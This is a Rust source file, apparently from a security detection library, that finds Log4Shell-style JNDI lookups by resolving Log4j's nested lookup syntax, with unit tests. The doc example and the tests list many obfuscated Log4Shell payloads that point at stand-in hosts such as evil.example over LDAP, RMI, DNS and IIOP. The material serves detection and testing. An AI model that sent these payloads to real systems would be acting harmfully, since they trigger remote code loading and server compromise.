//! Log4Shell-style lookups: the value is evaluated with Log4j's lookup grammar — nested `${...}`
//! resolved innermost first, `${lower:x}`/`${upper:x}` applied, `${name:-default}` (`${::-j}`,
//! `${env:NOPE:-j}`) taking its default, `${date:'j'}` yielding its quoted literal, unknown lookups
//! vanishing — and a lookup whose resolved prefix is `jndi` is the finding, with the protocol it names
//! (`ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `corba`, `nds`, `nis`, `http`...).
//!
//! One pass with an explicit stack ([`MAX_DEPTH`] levels): linear time, no recursion.
//!
//! Owns: lookup resolution. Must not touch: template expressions (`ssti`).

use crate::{decode, Class, Finding};

/// Deepest nesting resolved; deeper `${` are kept as text (Log4j itself gives up far earlier in practice).
const MAX_DEPTH: usize = 64;

/// Analyses `input` for a JNDI lookup after resolving Log4j's lookup syntax.
///
/// ```
/// use portcullis_detect::jndi::detect;
/// assert!(detect(b"${${::-j}${lower:N}di:${lower:L}dap://x.example/a}").is_some());
/// assert!(detect(b"Total: ${price}").is_none());
/// ```
pub fn detect(input: &[u8]) -> Option<Finding> {
    crate::decode::or_base64(input, detect_plain)
}

/// [`detect`] without the base64 layer.
fn detect_plain(input: &[u8]) -> Option<Finding> {
    decode::or_deep(input, analyse)
}

/// [`detect`] on a value that is its own only form (see the crate docs, "Own-form entry points").
#[doc(hidden)]
pub fn detect_own_form(input: &[u8]) -> Option<Finding> {
    analyse(input)
}

fn analyse(b: &[u8]) -> Option<Finding> {
    analyse_at(b, 0)
}

/// How many times a lookup's result is evaluated again (`${${base64:...}}` decodes to a lookup that Log4j then
/// resolves): bounded so that a result that keeps producing lookups stays linear.
const MAX_RESCANS: usize = 2;

fn analyse_at(b: &[u8], rescans: usize) -> Option<Finding> {
    // Cheap exit: without `${` there is no lookup.
    crate::traversal::find(b, b"${")?;
    // Stack of open lookups: (start offset in input, resolved text so far).
    let mut stack: Vec<(usize, Vec<u8>)> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        // `$${` is Log4j's escape for a literal `${`.
        if b[i] == b'$' && b.get(i + 1) == Some(&b'$') && b.get(i + 2) == Some(&b'{') {
            if let Some((_, cur)) = stack.last_mut() {
                cur.extend_from_slice(b"${");
            }
            i += 3;
            continue;
        }
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') && stack.len() < MAX_DEPTH {
            stack.push((i, Vec::new()));
            i += 2;
            continue;
        }
        if b[i] == b'}' {
            if let Some((start, body)) = stack.pop() {
                if let Some(f) = jndi_lookup(&body, start..i + 1) {
                    return Some(f);
                }
                let value = resolve(&body);
                // Log4j evaluates a lookup's result again: a `${base64:...}` that decodes to `${jndi:...}` runs.
                // Only base64 makes new text (the other lookups' results were resolved on the way in).
                let decoded = body.len() > 7 && body[..7].eq_ignore_ascii_case(b"base64:");
                if decoded && rescans < MAX_RESCANS && crate::traversal::find(&value, b"${").is_some() {
                    if let Some(mut f) = analyse_at(&value, rescans + 1) {
                        f.span = start..i + 1;
                        f.reason.push_str(" (built by a lookup's result)");
                        return Some(f);
                    }
                }
                if let Some((_, parent)) = stack.last_mut() {
                    parent.extend_from_slice(&value);
                }
                i += 1;
                continue;
            }
        }
        if let Some((_, cur)) = stack.last_mut() {
            cur.push(b[i]);
        }
        i += 1;
    }
    None
}

/// The lookup body resolves to `jndi:...`?
fn jndi_lookup(body: &[u8], span: std::ops::Range<usize>) -> Option<Finding> {
    let t = body.trim_ascii_start();
    if t.len() < 5 || !t[..5].eq_ignore_ascii_case(b"jndi:") {
        return None;
    }
    let rest = t[5..].trim_ascii_start();
    let proto_len = rest.iter().take_while(|c| c.is_ascii_alphanumeric()).count();
    let proto = String::from_utf8_lossy(&rest[..proto_len]).to_ascii_lowercase();
    let known = matches!(
        proto.as_str(),
        "ldap"
            | "ldaps"
            | "rmi"
            | "dns"
            | "iiop"
            | "corba"
            | "nds"
            | "nis"
            | "http"
            | "https"
            | "iiopname"
            | "corbaname"
    );
    let reason = if known { format!("JNDI lookup over {proto}") } else { "JNDI lookup".to_string() };
    Some(Finding { class: Class::Jndi, reason, span, signature: format!("jndi:{proto}") })
}

/// What Log4j would substitute for a (non-JNDI) lookup body.
fn resolve(body: &[u8]) -> Vec<u8> {
    // `name:-default`: the names we care about are unset on an attacker's target, so the default wins.
    if let Some(p) = crate::traversal::find(body, b":-") {
        return body[p + 2..].to_vec();
    }
    let Some(colon) = body.iter().position(|&c| c == b':') else {
        // `${name}` with no prefix: unresolved, Log4j leaves it; for detection, empty is the safe reading
        // since it cannot form `jndi` either way.
        return Vec::new();
    };
    let (prefix, arg) = (&body[..colon], &body[colon + 1..]);
    match prefix.to_ascii_lowercase().as_slice() {
        b"lower" => arg.to_ascii_lowercase(),
        // Log4j 2.x's `${base64:...}` decodes its argument.
        b"base64" => decode::base64_payload(arg).unwrap_or_default(),
        b"upper" => arg.to_ascii_uppercase(),
        b"date" => {
            // A SimpleDateFormat pattern: quoted literals are copied, pattern letters are not.
            let mut out = Vec::new();
            let mut quoted = false;
            for &c in arg {
                if c == b'\'' {
                    quoted = !quoted;
                } else if quoted {
                    out.push(c);
                }
            }
            out
        }
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn obfuscations() {
        for a in [
            "${jndi:ldap://evil.example/a}",
            "${JnDi:rmi://evil.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${${upper:j}ndi:dns://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "User-Agent: ${jndi:${lower:l}${lower:d}a${lower:p}://x}",
            "%24%7Bjndi:ldap://x/a%7D",
            "${${sys:nope:-j}ndi:iiop://x}",
            "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}",
        ] {
            assert!(detect(a.as_bytes()).is_some(), "{a}");
        }
    }

    #[test]
    fn benign() {
        for b in ["Total: ${price}", "${user.name}", "jndi is a Java API", "${lower:JNDI} talk", "${env:HOME}/jndi:x"] {
            assert!(detect(b.as_bytes()).is_none(), "{b}");
        }
    }
}
